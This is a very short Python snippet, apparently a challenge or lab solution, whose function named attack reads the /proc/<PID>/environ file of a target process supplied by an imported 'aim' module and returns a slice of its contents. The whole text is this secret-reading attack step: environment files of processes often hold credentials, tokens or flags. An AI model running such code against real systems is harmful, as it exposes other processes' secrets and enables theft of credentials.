import aim


def attack():
    return open(f"/proc/{aim.PID}/environ").read()[6:-1]
